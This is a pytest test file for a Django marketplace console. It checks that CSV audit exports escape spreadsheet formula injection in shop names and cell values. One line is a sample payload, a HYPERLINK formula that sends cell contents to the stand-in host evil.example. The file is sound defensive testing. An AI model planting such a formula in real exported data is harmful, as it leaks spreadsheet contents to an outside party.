"""CSV exports open in a spreadsheet as data: a formula typed into a name is never run."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from marketdesk.core.audit import audit_record
from marketdesk.core.spreadsheet import csv_cell
from tests import factories
from tests.console.conftest import client_as

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'


def test_a_shop_named_as_a_hyperlink_formula_is_exported_as_text(operator, operator_actor):
    # given a shop whose name is a formula, and an audit entry naming it
    shop = factories.ShopFactory(marketplace=operator.marketplace, name=HYPERLINK)
    audit_record(actor=operator_actor, action="shop.viewed", obj=shop)
    # when an operator exports the audit trail
    response = client_as(operator).get(reverse("console:audit_csv") + "?action=shop.viewed")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    # then the name is there, behind a quote that makes it text
    assert response.status_code == 200
    assert rows[1][6] == "'" + str(shop)
    assert str(shop).startswith("=HYPERLINK(")


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_every_formula_start_is_neutralised(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Acme", "a=b", "", 3, -3, None])
def test_data_that_starts_no_formula_is_kept(value):
    assert csv_cell(value) == value
